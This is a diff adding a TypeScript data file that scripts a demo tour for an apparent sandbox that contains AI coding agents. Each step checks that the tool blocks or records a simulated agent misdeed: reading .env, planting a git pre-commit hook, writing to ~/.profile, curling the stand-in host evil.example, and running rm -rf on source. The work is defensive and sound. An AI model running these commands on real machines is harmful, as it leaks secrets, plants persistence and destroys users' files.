@@ -1,0 +1,107 @@
+/** The steps of `cordon try`: what is typed, and what must be true on the machine afterwards. Data; `commands/try.ts` runs it. */
+
+import { existsSync, readFileSync } from 'node:fs'
+import { join } from 'node:path'
+
+/** The folders of a tour, all below one that is thrown away. */
+export interface TourPlace {
+  readonly base: string
+  readonly project: string
+  readonly home: string
+}
+
+export interface TourStep {
+  readonly title: string
+  /** The words after `cordon`; null for the ask, which an agent's session puts. */
+  readonly words: readonly string[] | null
+  /** What holds afterwards, in words, and whether it does; looked at outside the sandbox. */
+  readonly promise: string
+  readonly holds: (place: TourPlace, ran: TourRan) => boolean
+}
+
+/** What came of the command: its exit code, and all that it and Cordon printed. */
+export interface TourRan {
+  readonly code: number | null
+  readonly text: string
+}
+
+export const TOUR_KEY = 'API_KEY=this-is-the-secret-of-the-tour'
+const PROFILE = 'export EDITOR=vi\n'
+const NOTE = 'buy milk\n'
+const CODE = 'add() { echo $(($1 + $2)); }\n'
+
+/** The project of the tour, by paths below its base. */
+export const TOUR_FILES: Readonly<Record<string, string>> = {
+  'project/.env': `${TOUR_KEY}\n`,
+  'project/src/sum.sh': CODE,
+  'project/test.sh':
+    '. ./src/sum.sh\n[ "$(add 2 2)" = 4 ] && echo "ok 1 - adds" || exit 1\n[ "$(add 2 -2)" = 0 ] && echo "ok 2 - subtracts" || exit 1\n',
+  'home/.profile': PROFILE,
+  'notes/todo.txt': NOTE,
+}
+
+const read = (path: string): string => (existsSync(path) ? readFileSync(path, 'utf8') : '')
+
+/** The tour before the ask, and after it. */
+export const TOUR: readonly TourStep[] = [
+  {
+    title: 'An agent reads the secrets of the project',
+    words: ['run', '--', 'cat', '.env'],
+    promise: 'the secret was not read, and that it was tried was seen',
+    holds: (_, { text }) => !text.includes(TOUR_KEY) && text.includes('.env is hidden as a secret'),
+  },
+  {
+    title: 'It leaves a hook that you would run later, outside',
+    words: ['run', '--', 'sh', '-c', 'echo evil > .git/hooks/pre-commit'],
+    promise: 'there is no hook',
+    holds: ({ project }, { code }) => code !== 0 && !existsSync(join(project, '.git/hooks/pre-commit')),
+  },
+  {
+    title: 'It writes outside of the project',
+    words: ['run', '--', 'sh', '-c', 'echo evil >> ~/.profile; echo evil > ../notes/todo.txt'],
+    promise: 'your files are as they were',
+    holds: ({ base, home }) => read(join(home, '.profile')) === PROFILE && read(join(base, 'notes/todo.txt')) === NOTE,
+  },
+  {
+    title: 'It sends something to a host that nobody granted',
+    words: ['run', '--', 'sh', '-c', 'curl -sS https://evil.example || getent hosts evil.example'],
+    promise: 'nothing left, and the host was named',
+    holds: (_, { code, text }) => code !== 0 && text.includes('evil.example'),
+  },
+  {
+    title: 'It runs the tests: no questions',
+    words: ['run', '--', 'sh', 'test.sh'],
+    promise: 'the tests pass',
+    holds: (_, { code, text }) => code === 0 && text.includes('ok 2 - subtracts'),
+  },
+  {
+    title: 'It asks you for the secret, by its file tool: you decide',
+    words: null,
+    promise: 'what you answered is what happened',
+    holds: (_, { code }) => code === 0,
+  },
+  {
+    title: 'It deletes your code',
+    words: ['run', '--', 'rm', '-rf', 'src'],
+    promise: 'the code is gone',
+    holds: ({ project }, { code }) => code === 0 && !existsSync(join(project, 'src')),
+  },
+  {
+    title: 'You take that back',
+    words: ['undo', '--last'],
+    promise: 'the code is back, to the byte',
+    holds: ({ project }) => read(join(project, 'src/sum.sh')) === CODE,
+  },
+  {
+    title: 'What happened is on record',
+    words: ['audit', 'tail'],
+    promise: 'every call is there',
+    holds: (_, { text }) => text.includes('.env') && text.includes('evil.example'),
+  },
+  {
+    title: 'And the record is whole',
+    words: ['audit', 'verify'],
+    promise: 'no line was changed or cut',
+    holds: (_, { code, text }) => code === 0 && text.includes('all whole'),
+  },
+]
